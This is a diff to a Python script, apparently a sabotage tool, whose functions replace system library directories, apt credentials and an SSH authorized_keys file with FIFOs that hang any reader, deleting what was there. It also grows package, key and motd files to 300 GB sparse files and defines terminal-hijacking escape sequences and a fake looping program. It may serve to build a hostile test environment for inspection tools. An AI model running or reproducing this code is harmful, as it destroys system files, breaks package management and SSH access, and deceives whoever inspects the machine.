@@ -18,6 +18,13 @@ import time
 from pathlib import Path
 
 ESCAPES = "\x1b]0;owned\x07\x1b[2J\x1b[31mowned\u202e"
+(HOME,) = Path("/home").glob("lh-*")
+PIPES = (
+    Path("/usr/lib/aarch64-linux-gnu"),
+    Path("/usr/lib64/nvidia"),
+    Path("/etc/apt/auth.conf"),
+    HOME / ".ssh" / "authorized_keys",
+)
 LIBRARIES = Path("/usr/lib/x86_64-linux-gnu")
 PROGRAMS = (
     "cat chpasswd dpkg-query env false getent id ip journalctl loginctl ls mktemp nvidia-smi ps "
@@ -29,8 +36,7 @@ LIAR = "#!/bin/bash\nwhile :; do printf '%0999d\\e[2Jowned\\n' 0; done\n"
 
 def hang_whoever_opens() -> None:
     """A FIFO without a writer in place of what is looked at."""
-    for place in ("/usr/lib/aarch64-linux-gnu", "/usr/lib64/nvidia", "/etc/apt/auth.conf"):
-        path = Path(place)
+    for path in PIPES:
         path.parent.mkdir(parents=True, exist_ok=True)
         if path.exists() and not stat.S_ISFIFO(path.stat().st_mode):
             shutil.rmtree(path) if path.is_dir() else path.unlink()
@@ -48,7 +54,7 @@ def lie_to_whoever_asks() -> None:
 
 def grow_without_bounds() -> None:
     """300 GB that take no room, where lists of packages, accounts and keys are read."""
-    for place in ("/var/lib/dpkg/status", "/home/mallory/.ssh/authorized_keys", "/etc/motd"):
+    for place in ("/var/lib/dpkg/status", str(HOME / ".ssh" / "authorized_keys2"), "/etc/motd"):
         Path(place).parent.mkdir(parents=True, exist_ok=True)
         with Path(place).open("ab") as file:
             file.truncate(300 << 30)
